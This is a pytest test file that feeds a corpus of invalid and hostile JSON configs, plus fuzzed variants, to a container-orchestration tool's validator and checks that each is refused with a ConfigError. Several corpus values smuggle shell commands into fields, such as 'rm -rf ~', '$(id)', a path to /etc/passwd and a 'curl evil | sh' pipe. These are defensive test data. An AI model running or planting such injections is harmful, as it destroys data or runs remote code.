"""Hostile configs: a corpus of invalid files plus property-based fuzzing. Every one must be
a ConfigError naming the file (and, unless the whole file is unreadable, a JSON path) — never another
exception. In-process against load_domain + make_plan; a few through the real CLI."""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from conftest import ROOT, pnr_cli
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from pnr.exceptions import ConfigError
from pnr.model import MAX_CONFIG_BYTES, load_domain
from pnr.model.plan import make_plan

SEED: dict[str, Any] = json.loads((ROOT / "config" / "seed_example.json").read_text())
C0 = "cpuxs.stack_startup.design_chunks[0]"


def _seed(edit: Callable[[dict[str, Any]], Any]) -> bytes:
    data = copy.deepcopy(SEED)
    edit(data)
    return json.dumps(data).encode()


def _c(d: dict[str, Any]) -> dict[str, Any]:
    return d["cpuxs"]["stack_startup"]["design_chunks"][0]


def _second(d: dict[str, Any], **changes: Any) -> None:
    other = copy.deepcopy(_c(d))
    other["container"]["name"] = "pnr_other"
    other["container"]["ports"] = {"27017": "27018"}
    other.update(changes)
    d["cpuxs"]["stack_startup"]["design_chunks"].append(other)


# (id, file content, JSON path the first problem must name; "" = the whole file is the problem)
CORPUS: list[tuple[str, bytes, str]] = [
    ("empty_file", b"", ""),
    ("whitespace", b"  \n\t ", ""),
    ("truncated", json.dumps(SEED).encode()[:-7], ""),
    ("trailing_comma", b'{"name": "a", "cpuxs": {},}', ""),
    ("single_quotes", b"{'name': 'a'}", ""),
    ("top_level_list", b"[]", ""),
    ("top_level_string", b'"dev_stack"', ""),
    ("top_level_null", b"null", ""),
    ("empty_object", b"{}", "name"),
    ("empty_domain", b'{"name": "d", "cpuxs": {}}', "cpuxs"),
    ("empty_cpux", b'{"name": "d", "cpuxs": {"x": {"design_chunks": []}}}', "cpuxs.x.design_chunks"),
    ("not_utf8_latin1", '{"name": "d\u00e9v"}'.encode("latin-1"), ""),
    ("utf16", json.dumps(SEED).encode("utf-16"), ""),
    ("binary_garbage", bytes(range(256)) * 4, ""),
    ("deeply_nested_lists", b'{"name": "d", "cpuxs": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", ""),
    ("nested_objects_100", b'{"name": "d", "cpuxs": {"x": ' + b'{"a": ' * 100 + b"1" + b"}" * 101 + b"}", ""),
    ("huge_file", b'{"name": "d", "pad": "' + b"x" * (MAX_CONFIG_BYTES + 1) + b'"}', ""),
    ("integer_5000_digits", b'{"name": ' + b"9" * 5000 + b"}", ""),
    (
        "nan_timeout",
        _seed(lambda d: _c(d)["health_check"].update(timeout_seconds=float("nan"))),
        f"{C0}.health_check.timeout_seconds",
    ),
    (
        "infinite_deadline",
        _seed(lambda d: _c(d)["health_check"].update(deadline_seconds=float("inf"))),
        f"{C0}.health_check.deadline_seconds",
    ),
    (
        "negative_timeout",
        _seed(lambda d: _c(d)["health_check"].update(timeout_seconds=-5)),
        f"{C0}.health_check.timeout_seconds",
    ),
    (
        "zero_interval",
        _seed(lambda d: _c(d)["health_check"].update(interval_seconds=0)),
        f"{C0}.health_check.interval_seconds",
    ),
    (
        "absurd_timeout",
        _seed(lambda d: _c(d)["health_check"].update(timeout_seconds=10**12)),
        f"{C0}.health_check.timeout_seconds",
    ),
    (
        "bool_timeout",
        _seed(lambda d: _c(d)["health_check"].update(timeout_seconds=True)),
        f"{C0}.health_check.timeout_seconds",
    ),
    (
        "string_timeout",
        _seed(lambda d: _c(d)["health_check"].update(timeout_seconds="soon")),
        f"{C0}.health_check.timeout_seconds",
    ),
    (
        "tv_maybe",
        _seed(lambda d: _c(d)["gatekeeper"]["system_ready"].update(tv="maybe")),
        f"{C0}.gatekeeper.system_ready.tv",
    ),
    ("tv_bool", _seed(lambda d: _c(d)["flowout"]["mongodb_ready"].update(tv=True)), f"{C0}.flowout.mongodb_ready.tv"),
    (
        "mapping_tv_missing",
        _seed(lambda d: _c(d)["health_check"]["status_mapping"]["success"].pop("tv")),
        f"{C0}.health_check.status_mapping.success.tv",
    ),
    (
        "response_not_list",
        _seed(lambda d: _c(d)["gatekeeper"]["system_ready"].update(response="yes")),
        f"{C0}.gatekeeper.system_ready.response",
    ),
    ("unknown_top_key", _seed(lambda d: d.update(version=2)), "version"),
    ("unknown_chunk_key", _seed(lambda d: _c(d).update(depends_on=["x"])), f"{C0}.depends_on"),
    ("unknown_check_key", _seed(lambda d: _c(d)["health_check"].update(portkey="27017")), f"{C0}.health_check.portkey"),
    ("unknown_probe_kind", _seed(lambda d: _c(d)["health_check"].update(type="grpc")), f"{C0}.health_check"),
    ("probe_kind_missing", _seed(lambda d: _c(d)["health_check"].pop("type")), f"{C0}.health_check"),
    ("probe_kind_number", _seed(lambda d: _c(d)["health_check"].update(type=7)), f"{C0}.health_check"),
    ("check_is_list", _seed(lambda d: _c(d).update(health_check=["tcp"])), f"{C0}.health_check"),
    (
        "port_key_not_in_ports",
        _seed(lambda d: _c(d)["health_check"].update(port_key="27018")),
        f"{C0}.health_check.port_key",
    ),
    ("port_key_missing", _seed(lambda d: _c(d)["health_check"].pop("port_key")), f"{C0}.health_check.port_key"),
    (
        "port_out_of_range",
        _seed(lambda d: _c(d)["container"].update(ports={"27017": "65536"})),
        f"{C0}.container.ports",
    ),
    ("port_zero", _seed(lambda d: _c(d)["container"].update(ports={"0": "27017"})), f"{C0}.container.ports"),
    ("port_negative", _seed(lambda d: _c(d)["container"].update(ports={"27017": -1})), f"{C0}.container.ports"),
    ("port_bool", _seed(lambda d: _c(d)["container"].update(ports={"27017": True})), f"{C0}.container.ports.27017"),
    (
        "port_bad_ip",
        _seed(lambda d: _c(d)["container"].update(ports={"27017": "256.0.0.1:27017"})),
        f"{C0}.container.ports",
    ),
    ("ports_list", _seed(lambda d: _c(d)["container"].update(ports=["27017:27017"])), f"{C0}.container.ports"),
    ("duplicate_chunk_names", _seed(lambda d: _second(d)), "cpuxs.stack_startup.design_chunks[1].name"),
    (
        "duplicate_container_names",
        _seed(
            lambda d: (
                _second(d, name="other"),
                d["cpuxs"]["stack_startup"]["design_chunks"][1]["container"].update(name="pnr_mongodb"),
            )
        ),
        "cpuxs.stack_startup.design_chunks[1].container.name",
    ),
    (
        "duplicate_host_ports",
        _seed(
            lambda d: (
                _second(d, name="other"),
                d["cpuxs"]["stack_startup"]["design_chunks"][1]["container"].update(ports={"27017": "27017"}),
            )
        ),
        "cpuxs.stack_startup.design_chunks[1].container.ports.27017",
    ),
    (
        "duplicate_json_keys",
        b'{"name": "a", "cpuxs": {"x": {"design_chunks": []}, "x": {"design_chunks": []}}}',
        "cpuxs.x",
    ),
    (
        "cycle",
        _seed(
            lambda d: (
                _c(d)["gatekeeper"].update(other_ready={"tv": "Y"}),
                _second(
                    d, name="other", gatekeeper={"mongodb_ready": {"tv": "Y"}}, flowout={"other_ready": {"tv": "Y"}}
                ),
            )
        ),
        f"{C0}.gatekeeper",
    ),
    (
        "waits_on_itself",
        _seed(lambda d: _c(d)["gatekeeper"].update(mongodb_ready={"tv": "Y"})),
        f"{C0}.gatekeeper.mongodb_ready",
    ),
    ("domain_name_shell", _seed(lambda d: d.update(name="dev; rm -rf ~")), "name"),
    ("domain_name_backticks", _seed(lambda d: d.update(name="`reboot`")), "name"),
    ("domain_name_empty", _seed(lambda d: d.update(name="")), "name"),
    ("domain_name_too_long", _seed(lambda d: d.update(name="a" * 64)), "name"),
    ("container_name_slash", _seed(lambda d: _c(d)["container"].update(name="../etc/passwd")), f"{C0}.container.name"),
    ("container_name_one_char", _seed(lambda d: _c(d)["container"].update(name="m")), f"{C0}.container.name"),
    ("container_name_unicode", _seed(lambda d: _c(d)["container"].update(name="mongö")), f"{C0}.container.name"),
    ("chunk_name_dollar", _seed(lambda d: _c(d).update(name="$(id)")), f"{C0}.name"),
    (
        "cpux_name_space",
        _seed(lambda d: d.update(cpuxs={"stack startup": d["cpuxs"]["stack_startup"]})),
        'cpuxs["stack startup"]',
    ),
    ("signal_name_pipe", _seed(lambda d: _c(d)["flowout"].update({"a|b": {"tv": "Y"}})), f'{C0}.flowout["a|b"]'),
    (
        "image_shell",
        _seed(lambda d: _c(d)["container"].update(image="mongo:latest; curl evil | sh")),
        f"{C0}.container.image",
    ),
    ("image_upper_case", _seed(lambda d: _c(d)["container"].update(image="Mongo")), f"{C0}.container.image"),
    ("no_image_no_build", _seed(lambda d: _c(d)["container"].pop("image")), f"{C0}.container"),
    (
        "volume_relative_container_path",
        _seed(lambda d: _c(d)["container"].update(volumes=["data:data"])),
        f"{C0}.container.volumes",
    ),
    ("volume_bad_mode", _seed(lambda d: _c(d)["container"].update(volumes=["/a:/b:rwx"])), f"{C0}.container.volumes"),
    ("volume_name_shell", _seed(lambda d: _c(d)["container"].update(volumes=["$(id):/b"])), f"{C0}.container.volumes"),
    ("env_key_shell", _seed(lambda d: _c(d)["container"].update(env={"A;B": "1"})), f"{C0}.container.env"),
    ("env_value_list", _seed(lambda d: _c(d)["container"].update(env={"A": [1]})), f"{C0}.container.env.A"),
    ("env_nul", _seed(lambda d: _c(d)["container"].update(env={"A": "x\u0000y"})), f"{C0}.container.env.A"),
    (
        "command_unbalanced_quote",
        _seed(lambda d: _c(d)["container"].update(command="sh -c 'echo")),
        f"{C0}.container.command",
    ),
    ("command_empty_list", _seed(lambda d: _c(d)["container"].update(command=[])), f"{C0}.container.command"),
    ("lone_surrogate_key", json.dumps(SEED).replace('"stack_startup"', '"\\udc80x"').encode(), "cpuxs"),
    (
        "lone_surrogate_value",
        json.dumps(SEED).replace('"is system ready?"', '"\\ud800"').encode(),
        f"{C0}.gatekeeper.system_ready.prompt",
    ),
    (
        "too_many_chunks",
        _seed(
            lambda d: d["cpuxs"]["stack_startup"].update(
                design_chunks=[{"name": f"n{i}", "container": {"name": f"c{i}", "image": "x"}} for i in range(1001)]
            )
        ),
        "",
    ),
    (
        "reserved_label",
        _seed(lambda d: _c(d)["container"].update(labels={"io.pnr.chunk": "x"})),
        f"{C0}.container.labels",
    ),
]


def _refused(path: Path) -> ConfigError:
    with pytest.raises(ConfigError) as info:
        make_plan(load_domain(path), str(path))
    return info.value


@pytest.mark.parametrize("case, content, json_path", CORPUS, ids=[c[0] for c in CORPUS])
def test_hostile_config_is_a_config_error_naming_file_and_path(
    tmp_path: Path, case: str, content: bytes, json_path: str
) -> None:
    path = tmp_path / f"{case}.json"
    path.write_bytes(content)
    error = _refused(path)
    assert error.source == str(path) and error.issues
    lines = str(error).splitlines()
    assert all(line.startswith(f"{path}: ") for line in lines), lines[:3]
    assert all(line.isprintable() for line in lines)
    if json_path:
        assert any(issue.path == json_path for issue in error.issues), [(i.path, i.message) for i in error.issues]


def test_corpus_is_big_enough() -> None:
    assert len(CORPUS) >= 30
    assert len({c[0] for c in CORPUS}) == len(CORPUS)


# -- property-based fuzzing -----------------------------------------------------------------------------------

JSON_SCALARS = st.one_of(
    st.none(), st.booleans(), st.integers(-(10**20), 10**20), st.floats(allow_nan=True), st.text(max_size=12)
)
JSON_VALUES = st.recursive(
    JSON_SCALARS,
    lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=8), inner, max_size=3)),
    max_leaves=8,
)
STATS = {"mutated": 0, "mutated_valid": 0, "bytes": 0}


def _containers(node: Any, loc: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Paths of every dict and list in the document (places a mutation can act on)."""
    out = [loc] if isinstance(node, (dict, list)) else []
    items = node.items() if isinstance(node, dict) else enumerate(node) if isinstance(node, list) else []
    for key, value in items:
        out += _containers(value, (*loc, key))
    return out


def _at(doc: Any, loc: tuple[Any, ...]) -> Any:
    for part in loc:
        doc = doc[part]
    return doc


@st.composite
def mutated_seed(draw: st.DrawFn) -> Any:
    doc = copy.deepcopy(SEED)
    for _ in range(draw(st.integers(1, 4))):
        places = _containers(doc)
        if not places:
            break
        loc = draw(st.sampled_from(places))
        target = _at(doc, loc)
        op = draw(st.sampled_from(["delete", "insert", "swap"]))
        if isinstance(target, dict):
            if op == "insert" or not target:
                target[
                    draw(st.sampled_from(["name", "type", "tv", "port_key", "ports", "x", ""]) | st.text(max_size=6))
                ] = draw(JSON_VALUES)
            else:
                key = draw(st.sampled_from(sorted(target)))
                if op == "delete":
                    del target[key]
                else:
                    target[key] = draw(JSON_VALUES)
        else:
            if op == "insert" or not target:
                target.append(draw(JSON_VALUES))
            else:
                i = draw(st.integers(0, len(target) - 1))
                if op == "delete":
                    del target[i]
                else:
                    target[i] = draw(JSON_VALUES)
    return doc


# randomised on purpose (they find real bugs); a failure prints hypothesis' `@reproduce_failure(...)` blob to replay
# it exactly, and every example found and understood is kept below as an `@example`, so it runs on every CI run
FUZZ = settings(
    max_examples=400,
    deadline=None,
    print_blob=True,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
# the strategies draw only through hypothesis; in the full suite, threads that earlier integration tests' Prefect
# clients leave in this process move the global `random` state while a strategy draws, which hypothesis cannot
# tell apart from the strategy's own use
OTHER_THREADS_RANDOM = pytest.mark.filterwarnings("ignore:Do not use the `random` module inside strategies")


@FUZZ
@OTHER_THREADS_RANDOM
@given(doc=mutated_seed())
@example(doc={**SEED, "0\n": 0})  # a key that a path renderer once printed raw, breaking the line in two
@example(doc={**SEED, "": 0})
def test_fuzz_mutated_seed_is_valid_or_a_config_error(tmp_path: Path, doc: Any) -> None:
    path = tmp_path / "fuzz.json"
    path.write_text(json.dumps(doc))
    STATS["mutated"] += 1
    try:
        make_plan(load_domain(path), str(path))
        STATS["mutated_valid"] += 1  # a mutation may leave a valid config (say, an optional key removed)
    except ConfigError as exc:
        assert exc.issues and all(line.startswith(f"{path}: ") for line in str(exc).splitlines())
        assert all(i.path for i in exc.issues if not i.message.startswith(("... and", "nested deeper")))


@FUZZ
@OTHER_THREADS_RANDOM
@given(
    content=st.binary(max_size=300) | st.binary(max_size=40).map(lambda b: json.dumps(SEED).encode()[: len(b) * 7] + b)
)
def test_fuzz_random_bytes_are_a_config_error(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "bytes.json"
    path.write_bytes(content)
    STATS["bytes"] += 1
    error = _refused(path)
    assert error.issues and all(line.startswith(f"{path}: ") for line in str(error).splitlines())


def test_fuzz_counts_are_reported() -> None:
    # runs after the fuzz tests in file order; prints what was tried (pytest -s shows it)
    print(f"hostile corpus: {len(CORPUS)} files; fuzz: {STATS}")


# -- a few through the real CLI: exit 2, no traceback ----------------------------------------------------------


@pytest.mark.parametrize(
    "case",
    [
        "huge_file",
        "deeply_nested_lists",
        "not_utf8_latin1",
        "lone_surrogate_key",
        "integer_5000_digits",
        "duplicate_json_keys",
        "signal_name_pipe",
        "image_shell",
    ],
)
def test_cli_refuses_hostile_configs_with_exit_2(tmp_path: Path, case: str) -> None:
    content = dict((c[0], c[1]) for c in CORPUS)[case]
    path = tmp_path / f"{case}.json"
    path.write_bytes(content)
    result = pnr_cli("validate", str(path))
    assert result.returncode == 2, (result.stdout, result.stderr)
    assert "Traceback" not in result.stdout + result.stderr
    assert result.stderr.startswith(f"{path}: ")
